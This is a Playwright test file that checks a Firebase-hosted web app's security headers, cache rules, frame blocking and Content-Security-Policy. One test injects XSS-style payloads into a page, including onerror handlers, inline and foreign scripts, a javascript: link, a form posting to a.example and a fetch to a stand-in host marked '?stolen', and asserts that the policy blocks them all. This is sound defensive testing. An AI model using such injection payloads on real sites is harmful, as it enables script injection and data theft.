import { readFileSync } from "node:fs";
import { ASSETS, hostingHeadersOf } from "../../scripts/hosting-headers-plugin";
import { expect, test } from "./fixtures";
import { watch } from "./hardening-world";

// What other stories need and the policy forbids fails them (fixtures.ts).
test.use({ breaksPolicy: true });

/** Every page comes with the same policy: the first story below. */
const LIGHT_PAGE = "/westwalk-privacy-policies";
const FIREBASE_JSON = readFileSync(new URL("../../firebase.json", import.meta.url), "utf8");
const HEADERS = hostingHeadersOf(FIREBASE_JSON);

test("the headers of firebase.json come with every page and file, and a browser asks again for all but built ones", async ({
  page,
}) => {
  for (const address of ["/login", "/brands", LIGHT_PAGE, "/favicon.svg", "/nowhere"]) {
    const sent = (await page.request.get(address)).headers();
    for (const [name, value] of Object.entries(HEADERS))
      if (name !== "Content-Security-Policy") expect(sent[name.toLowerCase()]).toBe(value);
    // The local Firebase may be asked as well; what may run is the same.
    const policy = sent["content-security-policy"]!;
    for (const directive of HEADERS["Content-Security-Policy"]!.split("; "))
      expect(policy).toContain(directive);
    expect(policy).toContain("script-src 'self';");
  }

  const sent = await page.request.get("/brands");
  expect(sent.headers()["cache-control"]).toBe("no-cache");
  const [script] = /\/assets\/[\w-]+\.js/.exec(await sent.text())!;
  const { "cache-control": cache } = (await page.request.get(script)).headers();
  expect(cache).toBe("public, max-age=31536000, immutable");
  expect(cache).toBe(hostingHeadersOf(FIREBASE_JSON, ASSETS)["Cache-Control"]);
  const missing = await page.request.get("/assets/of-a-former-build.js");
  expect([missing.status(), missing.headers()["cache-control"]]).toEqual([404, "no-cache"]);
});

test("the policy stops markup and scripts that get into a page", async ({ page }) => {
  const seen = await watch(page);
  await page.goto(LIGHT_PAGE);
  await page.evaluate(() => {
    const add = (html: string) => document.body.insertAdjacentHTML("beforeend", html);
    add("<img src='x' onerror='window.ran=1'><iframe srcdoc='<script>top.ran=2</script>'></iframe>");
    add("<form action='https://a.example/' id='away'><input name='x'></form><object data='/favicon.svg'></object>");
    const inline = document.createElement("script");
    inline.textContent = "window.ran=3";
    document.body.append(inline);
    const foreign = document.createElement("script");
    foreign.src = "https://a.example/x.js";
    document.body.append(foreign);
    const base = document.createElement("base");
    base.href = "https://a.example/";
    document.head.append(base);
    const link = document.createElement("a");
    link.href = "javascript:window.ran=4";
    document.body.append(link);
    link.click();
    document.querySelector<HTMLFormElement>("#away")?.submit();
  });
  const kinds = ["script-src-attr", "script-src-elem", "object-src", "base-uri", "form-action"];
  await expect.poll(() => kinds.filter((kind) => !seen.violations().some((violation) => violation.startsWith(kind)))).toEqual([]);
  const sent = page.evaluate(() => fetch("https://a.example/?stolen").then(() => "sent", () => "stopped"));
  expect(await sent).toBe("stopped");
  await expect.poll(() => seen.violations().some((violation) => violation.startsWith("connect-src"))).toBe(true);
  expect(await seen.ran()).toEqual([]);
  const evaluated = page.evaluate(() => {
    const script = document.createElement("div");
    script.setAttribute("onclick", "window.ran=5");
    script.click();
    return Reflect.get(window, "ran") as unknown;
  });
  expect(await evaluated).toBeUndefined();
}); // prettier-ignore

test("the SDK's test picture is not asked for, nor anything else of its host", async ({ page }) => {
  const seen = await watch(page);
  await page.goto(LIGHT_PAGE);
  await page.evaluate(async () => {
    const load = (path: string) =>
      new Promise((resolve) => {
        const picture = new Image();
        picture.onload = picture.onerror = resolve;
        // As the SDK asks: by the page's own scheme.
        picture.src = `//www.google.com/${path}?zx=1`;
      });
    await load("images/cleardot.gif");
    await load("images/other.gif");
  });
  const refused = ["cleardot", "other"].map((name) => expect.stringMatching(`^img-src .*${name}\\.gif`));
  await expect.poll(seen.violations).toEqual(refused);
});

test("no other page can show the panel in a frame", async ({ page, baseURL }) => {
  await page.route("http://elsewhere.localhost/", (route) =>
    route.fulfill({ contentType: "text/html", body: `<iframe src="${String(baseURL)}/contact_us_form_staff"></iframe>` }),
  );
  await page.goto("http://elsewhere.localhost/");
  const refused = page.frames()[1]!;
  await expect.poll(() => refused.url()).toMatch(/chrome-error/);
  await page.goto("/contact_us_form_staff");
  await expect(page.getByRole("button", { name: "Send Message" })).toBeVisible();
}); // prettier-ignore
